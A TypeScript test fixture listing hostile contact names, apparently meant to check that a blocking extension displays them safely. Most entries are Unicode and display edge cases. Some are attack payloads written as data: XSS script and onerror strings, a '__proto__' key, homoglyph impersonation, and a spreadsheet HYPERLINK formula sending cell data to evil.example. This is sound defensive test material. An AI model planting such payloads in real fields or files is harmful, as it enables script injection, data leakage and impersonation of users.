/** One hostile name and what it tries. */
export interface HostileName {
  readonly why: string;
  readonly name: string;
}

const zalgo = (text: string): string =>
  [...text].map((letter) => `${letter}\u0336\u0315\u0321\u035c\u0489\u0310\u0322`).join('');

/** Names that contacts gave themselves to break whatever shows them. Tests go by their order. */
export const HOSTILE_NAMES: readonly HostileName[] = [
  { why: 'script tag', name: '<script>document.title="owned"</script>' },
  { why: 'event handler', name: '"><img src=x onerror=\'document.title="owned"\'>' },
  { why: 'bidi override', name: 'Nina \u202Egnihton kcolB\u202C' },
  { why: 'unclosed bidi isolate', name: '\u2067Omar \u2066Bakr' },
  { why: 'combining marks', name: zalgo('Zara Quill') },
  { why: 'very long', name: `Wilhelmina ${'van der '.repeat(48)}Zee` },
  { why: 'emoji', name: '👩‍👩‍👧‍👦🏳️‍🌈 Robin 🧑🏽‍🚒' },
  { why: 'spreadsheet formula', name: '=HYPERLINK("https://evil.example/?"&A1,"Kim")' },
  { why: 'looks like the id of someone else', name: '#827' },
  { why: 'digits only: the id of someone else', name: '30' },
  { why: 'right to left, Arabic', name: 'ليلى الحداد' },
  { why: 'right to left, Hebrew', name: 'נועה ברק' },
  { why: 'spaces at both ends', name: '   Dana Whitfield  ' },
  { why: 'zero-width letters', name: 'Pat\u200Brick\u200D\u2060 Doyle\uFEFF' },
  { why: 'letters of another script, the name of another contact', name: '\u0410lex M\u043Ergan' },
  { why: 'decomposed accents', name: 'Jose\u0301 Nun\u0303ez' },
  { why: 'a control of the extension', name: 'Undo block of Ana Lima' },
  { why: 'a state of the extension', name: 'Grace Okafor, blocked until Tue 14:00' },
  { why: 'property of every object', name: '__proto__' },
  { why: 'line breaks', name: 'Line\nBreak\r\nOlsen\t' },
  { why: 'ends as if it had been cut', name: 'Priya Ram…' },
  { why: 'template and format signs', name: '{{constructor}} $1 %s \u0024{name} & &amp;' },
  { why: 'nothing but space', name: '   ' },
  { why: 'empty', name: '' },
  { why: 'the word of the console for nobody', name: 'Unknown' },
];
